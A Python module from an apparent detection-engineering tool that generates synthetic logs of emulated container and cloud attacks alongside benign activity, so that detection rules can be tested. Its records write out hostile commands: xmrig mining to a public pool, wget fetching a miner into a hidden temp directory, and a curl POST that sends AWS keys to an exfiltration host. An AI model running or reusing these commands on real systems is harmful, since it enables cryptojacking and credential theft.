"""Turn an atomic test into concrete steps, with benign activity around it.

``build(test, fmt, seed)`` is deterministic: the same arguments give the same steps. The
attack steps follow the seeds' description of the test; the benign steps (``benign.py``)
are drawn from the organisation's ordinary day and are the same whatever the test, so a
rule that fires on them is a false positive, not a tuned emulation.
"""

from __future__ import annotations

import hashlib
import random
from dataclasses import dataclass
from datetime import UTC, datetime, timedelta

from imagehunt.emulate import benign, environment
from imagehunt.emulate.ids import (
    CONTAINER_SHIM,
    base32_upper,
    hex_digits,
    new_container,
    random_uuid,
)
from imagehunt.emulate.steps import (
    CloudCall,
    Connection,
    Container,
    ContainerStart,
    DnsLookup,
    Host,
    ImagePull,
    Process,
    ProcessStart,
    Step,
)

BASE_TIME = datetime(2026, 11, 2, 9, 0, tzinfo=UTC)
ATTACK_IMAGES = {1: "docker123321/tomcat:latest", 3: "alpineos/dockerapi:latest"}
WINDOWS_FORMATS = frozenset({"winlogbeat"})
KUBERNETES_FORMATS = frozenset({"k8s"})
# Seconds from the scenario's start that the attack uses (every test's steps fall inside),
# kept free of benign steps, with a margin of two seconds.
ATTACK_SPANS: tuple[tuple[float, float], ...] = ((-2.0, 9.0), (93.0, 97.5), (238.0, 242.0))
ATTRIBUTION_SECONDS = 1.0  # a row within this of an attack step's time is the attack's


@dataclass(frozen=True)
class Scenario:
    """The steps of one emulation, sorted by time."""

    seed: int
    test: int | None  # None: benign activity only
    fmt: str
    steps: tuple[Step, ...]

    @property
    def attack_steps(self) -> tuple[Step, ...]:
        """The steps that belong to the attack."""
        return tuple(s for s in self.steps if s.attack)

    def is_attack_time(self, when: datetime | None) -> bool:
        """True when a row of this time comes from an attack step (see ATTACK_SPANS)."""
        if when is None:
            return False
        if when.tzinfo is None:
            when = when.replace(tzinfo=UTC)
        return any(
            abs((when - step.time).total_seconds()) <= ATTRIBUTION_SECONDS
            for step in self.attack_steps
        )


def _monero_address(rng: random.Random) -> str:
    """A standard Monero address shape: 95 base58 characters starting with 4."""
    base58 = "123456789ABCDEFGHJKLMNPQRSTUVWXYZabcdefghijkmnopqrstuvwxyz"
    return "4" + rng.choice("0123456789AB") + "".join(rng.choice(base58) for _ in range(93))


def _secret(rng: random.Random) -> str:
    alphabet = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789/+"
    return "".join(rng.choice(alphabet) for _ in range(40))


class _Attack:
    """Factory of a test's attack steps on one host, starting at ``start``."""

    def __init__(self, rng: random.Random, host: Host, start: datetime, fmt: str) -> None:
        self.rng = rng
        self.host = host
        self.start = start
        self.fmt = fmt
        self.shim_pid = rng.randint(2000, 9000)

    def at(self, seconds: float) -> datetime:
        return self.start + timedelta(seconds=seconds)

    def container(self, image: str, env: tuple[str, ...] = ()) -> Container:
        return new_container(self.rng, image, env, self.fmt in KUBERNETES_FORMATS)

    def in_container(
        self, container: Container, pid: int, args: tuple[str, ...], executable: str
    ) -> Process:
        return Process(
            pid=pid,
            ppid=self.shim_pid,
            executable=executable,
            args=args,
            parent_executable=CONTAINER_SHIM,
            parent_args=(
                CONTAINER_SHIM,
                "-namespace",
                "moby",
                "-id",
                container.id,
                "-address",
                "/run/containerd/containerd.sock",
            ),
            cwd="/",
            container=container,
        )

    def start_container(
        self, seconds: float, container: Container, command: tuple[str, ...]
    ) -> ContainerStart:
        pod = container.name if container.runtime == "containerd" else ""
        return ContainerStart(
            self.at(seconds), self.host, True, container, command, user="deploy", pod=pod
        )

    def test1(self) -> list[Step]:
        container = self.container(ATTACK_IMAGES[1])
        command = (
            "/usr/local/bin/xmrig",
            "-o",
            "stratum+tcp://pool.minexmr.com:4444",
            "-u",
            _monero_address(self.rng),
            "-p",
            "x",
            "-k",
        )
        pid = self.rng.randint(20000, 40000)
        process = self.in_container(container, pid, command, command[0])
        return [
            self.start_container(0, container, command),
            ProcessStart(self.at(0.4), self.host, True, process),
        ]

    def _shell(self, pid: int) -> Process:
        if self.host.os == "windows":
            return Process(
                pid=pid,
                ppid=pid - self.rng.randint(50, 400),
                executable="C:\\Windows\\explorer.exe",
                args=("C:\\Windows\\explorer.exe",),
                parent_executable="C:\\Windows\\System32\\userinit.exe",
                user="jdoe",
                uid=1104,
            )
        return Process(
            pid=pid,
            ppid=pid - self.rng.randint(3, 40),
            executable="/usr/bin/bash",
            args=("-bash",),
            parent_executable="/usr/sbin/sshd",
            user="jdoe",
            uid=1001,
            cwd="/home/jdoe",
        )

    def test2(self) -> list[Step]:
        pool_ip = self.rng.choice(environment.POOL_ADDRESSES)
        pid = self.rng.randint(20000, 40000)
        parent = self._shell(pid - self.rng.randint(5, 200))
        if self.host.os == "windows":
            ps = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"
            args: tuple[str, ...] = (
                ps,
                "-NoProfile",
                "-Command",
                "Test-NetConnection -ComputerName pool.minexmr.com -Port 3333",
            )
            executable, cwd = ps, "C:\\Users\\jdoe\\"
        else:
            args = ("curl", "-v", "--max-time", "5", "pool.minexmr.com:3333")
            executable, cwd = "/usr/bin/curl", "/home/jdoe"
        process = Process(
            pid=pid,
            ppid=parent.pid,
            executable=executable,
            args=args,
            parent_executable=parent.executable,
            parent_args=parent.args,
            user=parent.user,
            uid=parent.uid,
            cwd=cwd,
        )
        return [
            ProcessStart(self.at(0), self.host, True, process),
            DnsLookup(
                self.at(0.05),
                self.host,
                True,
                process,
                "pool.minexmr.com",
                (pool_ip,),
                environment.RESOLVER,
                self.rng.randint(32768, 60999),
                transaction_id=self.rng.randint(1, 65535),
            ),
            Connection(
                self.at(0.12),
                self.host,
                True,
                process,
                self.host.ip,
                self.rng.randint(32768, 60999),
                pool_ip,
                3333,
                destination_name="pool.minexmr.com",
            ),
        ]

    def test3(self) -> list[Step]:
        image = ATTACK_IMAGES[3]
        container = self.container(image)
        url = "http://127.0.0.1:3333/xmrig"
        command = ("wget", "-q", "-O", "/tmp/.x/xmrig", url)
        pid = self.rng.randint(20000, 40000)
        process = self.in_container(container, pid, command, "/usr/bin/wget")
        digest = "sha256:" + hex_digits(self.rng, 64)
        return [
            ImagePull(self.at(0), self.host, True, image, digest),
            self.start_container(6.5, container, command),
            ProcessStart(self.at(6.9), self.host, True, process),
            Connection(
                self.at(7.0),
                self.host,
                True,
                process,
                "127.0.0.1",
                self.rng.randint(32768, 60999),
                "127.0.0.1",
                3333,
                outcome="refused",
            ),
        ]

    def test4(self) -> list[Step]:
        user = "ci-deployer"
        arn = f"arn:aws:iam::{environment.ACCOUNT_ID}:user/{user}"
        key = "AKIA" + base32_upper(self.rng, 16)
        caller = self.rng.choice(environment.CALLER_IPS)
        agent = "aws-cli/2.17.20 md/awscrt#0.20.11 ua/2.0 os/linux#6.8.0 md/arch#x86_64"
        instance = "i-0" + hex_digits(self.rng, 16)
        common = {
            "host": self.host,
            "attack": True,
            "event_source": "ec2.amazonaws.com",
            "region": environment.REGION,
            "account_id": environment.ACCOUNT_ID,
            "principal_arn": arn,
            "principal_type": "IAMUser",
            "access_key_id": key,
            "source_ip": caller,
            "user_agent": agent,
        }
        run = CloudCall(
            time=self.at(0),
            event_name="RunInstances",
            request={
                "instancesSet": {
                    "items": [{"imageId": environment.COMMUNITY_AMI, "minCount": 1, "maxCount": 1}]
                },
                "instanceType": "t3.medium",
                "blockDeviceMapping": {},
                "monitoring": {"enabled": False},
                "disableApiTermination": False,
                "disableApiStop": False,
            },
            response={
                "requestId": random_uuid(self.rng),
                "reservationId": "r-0" + hex_digits(self.rng, 16),
                "ownerId": environment.ACCOUNT_ID,
                "groupSet": {},
                "instancesSet": {
                    "items": [
                        {
                            "instanceId": instance,
                            "imageId": environment.COMMUNITY_AMI,
                            "instanceState": {"code": 0, "name": "pending"},
                            "instanceType": "t3.medium",
                            "launchTime": int(self.at(0).timestamp() * 1000),
                            "placement": {"availabilityZone": "us-east-1a", "tenancy": "default"},
                        }
                    ]
                },
            },
            event_id=random_uuid(self.rng),
            request_id=random_uuid(self.rng),
            **common,  # type: ignore[arg-type]
        )
        stop = CloudCall(
            time=self.at(240),
            event_name="StopInstances",
            request={"instancesSet": {"items": [{"instanceId": instance}]}, "force": False},
            response={
                "requestId": random_uuid(self.rng),
                "instancesSet": {
                    "items": [
                        {
                            "instanceId": instance,
                            "currentState": {"code": 64, "name": "stopping"},
                            "previousState": {"code": 16, "name": "running"},
                        }
                    ]
                },
            },
            event_id=random_uuid(self.rng),
            request_id=random_uuid(self.rng),
            **common,  # type: ignore[arg-type]
        )
        return [run, stop]

    def test5(self) -> list[Step]:
        key_id = "AKIA" + base32_upper(self.rng, 16)
        secret = _secret(self.rng)
        env = (
            f"AWS_ACCESS_KEY_ID={key_id}",
            f"AWS_SECRET_ACCESS_KEY={secret}",
            f"AWS_DEFAULT_REGION={environment.REGION}",
        )
        container = self.container("python:3.12-slim", env)
        exfil = self.rng.choice(environment.EXFIL_ADDRESSES)
        url = f"http://{exfil}:8080/collect"
        command = (
            "curl",
            "-s",
            "-X",
            "POST",
            url,
            "-d",
            f"AWS_ACCESS_KEY_ID={key_id}&AWS_SECRET_ACCESS_KEY={secret}",
        )
        entry = ("python3", "-m", "http.server", "8000")
        pid = self.rng.randint(20000, 40000)
        process = self.in_container(container, pid, command, "/usr/bin/curl")
        return [
            self.start_container(0, container, entry),
            ProcessStart(self.at(95), self.host, True, process),
            Connection(
                self.at(95.2),
                self.host,
                True,
                process,
                "172.17.0.3",
                self.rng.randint(32768, 60999),
                exfil,
                8080,
                outcome="established",
            ),
        ]


def _rng(seed: int, fmt: str, test: int | None, part: str) -> random.Random:
    digest = hashlib.sha256(f"{seed}:{fmt}:{test}:{part}".encode()).digest()
    return random.Random(int.from_bytes(digest[:8], "big"))


def pick_host(seed: int, fmt: str) -> Host:
    """The host of the emulation: a Windows workstation for Windows formats, else Linux."""
    rng = _rng(seed, fmt, None, "host")
    if fmt in WINDOWS_FORMATS:
        name, ip = rng.choice(environment.WINDOWS_HOSTS)
        return Host(name, ip, "windows", "CORP")
    name, ip = rng.choice(environment.LINUX_HOSTS)
    return Host(name, ip)


def build(test: int | None, fmt: str, seed: int = 0, *, attack: bool = True) -> Scenario:
    """The steps of ``test`` in ``fmt`` (benign background only when ``test`` is None or
    ``attack`` is False), deterministic for a seed."""
    host = pick_host(seed, fmt)
    start = BASE_TIME + timedelta(minutes=_rng(seed, fmt, None, "start").randint(0, 600))
    steps: list[Step] = benign.background(
        _rng(seed, fmt, None, "benign"), host, start, fmt, ATTACK_SPANS
    )
    if test is not None and attack:
        factory = _Attack(_rng(seed, fmt, test, "attack"), host, start, fmt)
        steps.extend(getattr(factory, f"test{test}")())
    steps.sort(key=lambda s: s.time)
    return Scenario(seed=seed, test=test if attack else None, fmt=fmt, steps=tuple(steps))
